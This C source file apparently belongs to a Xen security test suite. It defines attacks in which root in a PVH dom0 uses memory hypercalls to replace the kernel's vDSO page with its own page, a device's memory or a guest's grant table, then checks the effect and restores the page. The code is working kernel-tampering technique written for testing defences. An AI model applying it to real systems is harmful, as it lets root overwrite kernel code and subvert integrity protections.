// SPDX-License-Identifier: GPL-2.0-only
/*
 * Which frame lies where in dom0's memory. For a PVH dom0 Xen keeps that map,
 * and changes it at the word of whoever asks, kernel or not: what the kernel
 * has at an address may be gone with the next access, or be something else.
 */
#include "physmap.h"

#include "../domu.h"

static const char pvh_only[] =
    "PVH only: of a PV dom0's memory Xen keeps no such map";

void populate(uint64_t page)
{
    xen_pfn_t *pages = buffer(sizeof(*pages));
    struct xen_memory_reservation *reservation = buffer(sizeof(*reservation));

    *pages = page;
    set_xen_guest_handle(reservation->extent_start, pages);
    reservation->nr_extents = 1;
    reservation->domid = DOMID_SELF;
    memory_op(XENMEM_populate_physmap, reservation);
}

void remove_page(uint64_t page)
{
    struct xen_remove_from_physmap *remove = buffer(sizeof(*remove));

    *remove = (struct xen_remove_from_physmap){ .domid = DOMID_SELF,
                                                .gpfn = page };
    memory_op(XENMEM_remove_from_physmap, remove);
}

/* Change what lies at @kernel; @own is a page of ours, to be lost. */
typedef void change_map(uint64_t kernel, uint64_t own);

/*
 * Have @change done to the page of the vDSO, and see whether it has become what
 * our page was, or, if ours is not to take its place, anything else.
 */
static enum outcome change_kernel_page(change_map *change, bool by_own)
{
    const uint8_t *page = vdso_page();
    uint8_t *before = buffer(PAGE_SIZE), *after = buffer(PAGE_SIZE),
            *lost = buffer(PAGE_SIZE);
    const uint64_t own = own_frame(lost);
    uint64_t kernel;
    bool changed, wanted;

    if ( dom0_is_pv() )
        return not_applicable(pvh_only);
    if ( !page || !own || !(kernel = own_frame(page)) )
        return cannot_try("no frame for the kernel's page");

    memcpy(before, page, PAGE_SIZE);
    memcpy(after, page, PAGE_SIZE);
    memcpy(after + PAGE_SIZE - MARK_SIZE, new_mark(), MARK_SIZE);
    memcpy(lost, after, PAGE_SIZE);

    change(kernel, own);
    changed = !survives(touch, (void *)page) || memcmp(before, page, PAGE_SIZE);
    wanted = changed && (!by_own || !memcmp(after, page, PAGE_SIZE));

    if ( changed && !by_own )
        populate(kernel);
    if ( changed && by_own )
        populate(own);
    if ( changed )
        copy_frame(kernel, own_frame(before));

    return effect(wanted, "the kernel's vDSO %s",
                  !wanted  ? "unchanged"
                  : by_own ? "is a page of ours"
                           : "is something else");
}

static void by_remove(uint64_t kernel, uint64_t own)
{
    (void)own;
    remove_page(kernel);
}

/*
 * U-MEMSTEAL-REMOVE: take a page from under the kernel.
 *
 * Xen does not ask whether the kernel still uses it, and need not get it back.
 */
ATTACK_BY("U-MEMSTEAL-REMOVE", "take a kernel page out of dom0's memory",
          change_kernel_page(by_remove, false))

static void by_populate(uint64_t kernel, uint64_t own)
{
    (void)own;
    populate(kernel);
}

/*
 * U-MEMSTEAL-POPULATE: put fresh memory where the kernel has a page.
 *
 * populate_physmap fills a hole, and does not mind that there is none.
 */
ATTACK_BY("U-MEMSTEAL-POPULATE", "put an empty page in a kernel page's place",
          change_kernel_page(by_populate, false))

void add_to_map(unsigned int space, uint64_t index, uint64_t page)
{
    struct xen_add_to_physmap *add = buffer(sizeof(*add));

    *add = (struct xen_add_to_physmap){ .domid = DOMID_SELF,
                                        .space = space,
                                        .size = 1,
                                        .idx = index,
                                        .gpfn = page };
    memory_op(XENMEM_add_to_physmap, add);
}

static void by_move(uint64_t kernel, uint64_t own)
{
    add_to_map(XENMAPSPACE_gmfn, own, kernel);
}

/*
 * U-MEMSTEAL-MOVE: put a page of root's own where the kernel has one.
 *
 * Whatever the kernel has there, its code as well, is then what root wrote.
 */
ATTACK_BY("U-MEMSTEAL-MOVE", "move a page of ours to a kernel page's place",
          change_kernel_page(by_move, true))

static void by_range(uint64_t kernel, uint64_t own)
{
    add_to_map(XENMAPSPACE_gmfn_range, own, kernel);
}

/* U-MEMSTEAL-RANGE: the same, as a range of pages. */
ATTACK_BY("U-MEMSTEAL-RANGE", "move a range of ours to a kernel page's place",
          change_kernel_page(by_range, true))

void add_batch(unsigned int space, domid_t foreign, uint64_t index,
               uint64_t page)
{
    struct xen_add_to_physmap_batch *add = buffer(sizeof(*add));
    xen_ulong_t *indexes = buffer(sizeof(*indexes));
    xen_pfn_t *pages = buffer(sizeof(*pages));
    int *errors = buffer(sizeof(*errors));

    *indexes = index;
    *pages = page;
    add->domid = DOMID_SELF;
    add->space = (uint16_t)space;
    add->size = 1;
    add->u.foreign_domid = foreign;
    set_xen_guest_handle(add->idxs, indexes);
    set_xen_guest_handle(add->gpfns, pages);
    set_xen_guest_handle(add->errs, errors);
    memory_op(XENMEM_add_to_physmap_batch, add);
}

static void by_batch(uint64_t kernel, uint64_t own)
{
    add_batch(XENMAPSPACE_gmfn, 0, own, kernel);
}

/* U-MEMSTEAL-BATCH: the same, as a list of pages. */
ATTACK_BY("U-MEMSTEAL-BATCH", "move a list of ours to a kernel page's place",
          change_kernel_page(by_batch, true))

/* ---- other memory in a kernel page's place ---- */

void map_device(uint64_t frame, uint64_t page, bool add)
{
    struct xen_domctl *map = buffer(sizeof(*map));

    map->cmd = XEN_DOMCTL_memory_mapping;
    map->u.memory_mapping.first_gfn = page;
    map->u.memory_mapping.first_mfn = frame;
    map->u.memory_mapping.nr_mfns = 1;
    map->u.memory_mapping.add_mapping = add;
    domctl(map);
}

static const uint64_t vga_frame = 0xa0; /* any device would do */

/*
 * U-MEMSTEAL-DEVICE: map a device where the kernel has memory.
 *
 * Made for devices that are handed to a domU, memory_mapping works on dom0, too.
 * From then on the kernel reads from the device, and what it writes is lost.
 */
ATTACK("U-MEMSTEAL-DEVICE", "map a device in a kernel page's place")
{
    const uint8_t *page = vdso_page();
    uint8_t *before = buffer(PAGE_SIZE);
    uint64_t kernel;
    bool changed;

    if ( dom0_is_pv() )
        return not_applicable(pvh_only);
    if ( !page || !(kernel = own_frame(page)) )
        return cannot_try("no frame for the kernel's page");

    memcpy(before, page, PAGE_SIZE);
    map_device(vga_frame, kernel, true);
    changed = memcmp(before, page, PAGE_SIZE);
    if ( changed )
    {
        map_device(vga_frame, kernel, false);
        populate(kernel);
        copy_frame(kernel, own_frame(before));
    }

    return effect_either(changed, "the kernel's vDSO",
                         "is the display's memory", "unchanged");
}

static void acquire_table(domid_t domid, uint64_t page)
{
    struct xen_mem_acquire_resource *acquire = buffer(sizeof(*acquire));
    xen_pfn_t *pages = buffer(sizeof(*pages));

    *pages = page;
    acquire->domid = domid;
    acquire->type = XENMEM_resource_grant_table;
    acquire->id = XENMEM_resource_grant_table_id_shared;
    acquire->nr_frames = 1;
    set_xen_guest_handle(acquire->frame_list, pages);
    memory_op(XENMEM_acquire_resource, acquire);
}

/*
 * U-MAP-RES-OVER: acquire a resource where the kernel has memory.
 *
 * privcmd sees to it that a resource of another domain's lands in its caller's
 * pages. The hypercall takes any page of dom0's. A domU of root's own has a
 * grant table, which then lies where the kernel had its code.
 */
ATTACK("U-MAP-RES-OVER", "acquire a resource in a kernel page's place")
{
    const uint8_t *page = vdso_page();
    uint8_t *before = buffer(PAGE_SIZE);
    uint64_t kernel;
    domid_t domid;
    bool changed;

    if ( dom0_is_pv() )
        return not_applicable(pvh_only);
    if ( !page || !(kernel = own_frame(page)) )
        return cannot_try("no frame for the kernel's page");

    domid = create_domu(DOMU_HVM);
    memcpy(before, page, PAGE_SIZE);
    /* Without a domU: to show that this is refused as well. */
    acquire_table(domid == DOMID_INVALID ? 1 : domid, kernel);
    changed = memcmp(before, page, PAGE_SIZE);
    if ( changed )
    {
        remove_page(kernel);
        populate(kernel);
        copy_frame(kernel, own_frame(before));
    }
    if ( domid != DOMID_INVALID )
        destroy_domu(domid);

    return effect_either(changed, "the kernel's vDSO",
                         "is a domU's grant table", "unchanged");
}
